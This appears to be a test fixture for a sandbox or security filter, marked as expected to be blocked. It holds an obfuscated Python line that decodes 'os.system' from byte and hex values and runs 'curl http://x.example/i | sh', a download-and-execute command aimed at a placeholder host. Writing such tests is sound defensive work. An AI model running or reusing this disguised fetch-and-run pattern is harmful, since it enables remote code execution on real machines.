# expect: BLOCKED
parts = [111, 115]
mod = __import__(bytes(parts).decode())
getattr(mod, "".join(chr(int(x, 16)) for x in "73 79 73 74 65 6d".split()))("cu" + "rl http://x.example/i | s" + "h")
